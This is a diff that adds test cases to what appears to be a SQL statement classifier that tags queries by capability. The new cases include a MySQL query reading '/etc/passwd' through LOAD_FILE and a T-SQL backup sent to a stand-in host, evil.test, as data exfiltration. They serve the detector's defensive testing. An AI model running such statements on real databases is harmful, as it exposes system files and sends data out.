@@ -318,6 +318,24 @@ FORMS = [
     ),
     ("tsql", "BACKUP DATABASE shop TO DISK = 'c:\\x.bak'", {"data.export", "file.write"}, {}),
     ("mysql", "HANDLER users OPEN", {"data.read"}, {"tables_read": ["users"]}),
+    (
+        "mysql",
+        "HANDLER users READ FIRST WHERE LOAD_FILE('/etc/passwd') IS NOT NULL",
+        {"data.read", "file.read"},
+        {"files_read": ["/etc/passwd"], "tables_read": ["users"]},
+    ),
+    (
+        "tsql",
+        "BULK INSERT t FROM 'c:\\in.csv' WITH (FIELDTERMINATOR = ',', ERRORFILE = 'c:\\err.log')",
+        {"data.write", "file.read", "file.write"},
+        {"files_read": ["c:\\in.csv"], "files_written": ["c:\\err.log"]},
+    ),
+    (
+        "tsql",
+        "BACKUP DATABASE shop TO DISK = 'c:\\a.bak', URL = 'https://evil.test/b.bak'",
+        {"data.export", "file.write", "network.egress"},
+        {"remote": ["https://evil.test/b.bak"]},
+    ),
     ("mysql", "HANDLER users READ FIRST WHERE id = 1", {"data.read"}, {"tables_read": ["users"]}),
 ]
 
